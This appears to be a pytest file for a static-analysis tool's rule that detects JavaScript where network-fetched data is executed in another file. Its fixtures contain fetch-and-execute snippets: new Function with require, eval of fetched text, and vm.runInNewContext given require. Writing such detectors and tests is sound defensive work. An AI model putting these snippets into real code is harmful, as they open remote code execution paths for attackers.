from lazaretto.detect.engine import Engine, run_rule
from lazaretto.detect.project import FileInfo, Project
from lazaretto.detect.rules.javascript import cross_file_flow, module_links, remote_code_across_files
from lazaretto.parse.blob import Blob
from lazaretto.parse.javascript import JavaScriptModule

RULE = remote_code_across_files.RULE
HANDLER = "exports.errorHandler = (text) => {\n  new Function('require', text)(require);\n};\n"
ROUTE = "const { errorHandler } = require('../utils/error');\nexports.go = () => axios.get(u).catch((e) => errorHandler(e.response.data));\n"


def join(files: dict[str, str]):
    engine = Engine([cross_file_flow.RULE, module_links.RULE], [JavaScriptModule])
    signals = [s for path, text in files.items() for s in engine.examine(Blob(path, text.encode())).signals]
    project = Project({path: FileInfo(len(text), "") for path, text in files.items()}, signals)
    result = run_rule(RULE, project, ".")
    assert not result.gaps
    return [
        (f.severity.name, f.confidence.name, [(p.path, p.line) for p in f.locations], f.message.english())
        for f in result.findings
    ]


def test_handed_over(look):
    assert join({"server/utils/error.js": HANDLER, "server/routes/a.js": ROUTE}) == [
        (
            "CRITICAL",
            "HIGH",
            [("server/utils/error.js", 2), ("server/routes/a.js", 2)],
            "executes what server/routes/a.js fetches from the network",
        )
    ]


def test_through_an_index_file():
    files = {
        "utils/index.js": "exports.x = require('./error');\n",
        "utils/error.js": HANDLER,
        "a.js": ROUTE.replace("../utils/error", "./utils"),
    }
    assert [found[2][0] for found in join(files)] == [("utils/error.js", 2)]


def test_fetched_by_an_imported_function():
    files = {
        "a.js": "import { load } from './load.js';\nexport const go = async () => eval(await load());\n",
        "load.js": "export async function load() { const r = await fetch('https://x.test'); return r.text() }\n",
    }
    assert [found[2] for found in join(files)] == [[("a.js", 2), ("load.js", 1)]]


def test_near_misses():
    assert (
        join(
            {
                "server/utils/error.js": "exports.errorHandler = (text) => console.error(text);\n",
                "server/routes/a.js": ROUTE,
            }
        )
        == []
    )
    assert join({"server/utils/error.js": HANDLER, "server/routes/a.js": ROUTE.replace("e.response.data", "'x'")}) == []
    assert join({"other/error.js": HANDLER, "server/routes/a.js": ROUTE}) == []


BETWEEN = {
    "src/net.ts": "export async function load() { const r = await fetch('https://x.test'); return r.text() }\n",
    "src/run.js": "const vm = require('vm');\nmodule.exports = (s) => vm.runInNewContext(s, { require });\n",
    "src/index.js": "module.exports = { net: require('./net'), run: require('./run') };\n",
    "main.js": "const { net, run } = require('./src');\nmodule.exports = async () => run(await net.load());\n",
}


def between(files: dict[str, str]):
    engine = Engine([cross_file_flow.RULE, module_links.RULE], [JavaScriptModule])
    blobs = {path: Blob(path, text.encode()) for path, text in files.items()}
    signals = [s for blob in blobs.values() for s in engine.examine(blob).signals]
    project = Project({path: FileInfo(1, "") for path in files}, signals, read=blobs.get)
    result = run_rule(RULE, project, ".")
    assert not result.gaps
    return [[(p.path, p.line) for p in f.locations] for f in result.findings]


def test_a_third_file_joins_the_two(look):
    assert between(BETWEEN) == [[("src/run.js", 2), ("src/net.ts", 1)]]


def test_a_third_file_that_keeps_them_apart(look):
    assert (
        between(BETWEEN | {"main.js": BETWEEN["main.js"].replace("run(await net.load())", "[run('1'), net.load()]")})
        == []
    )
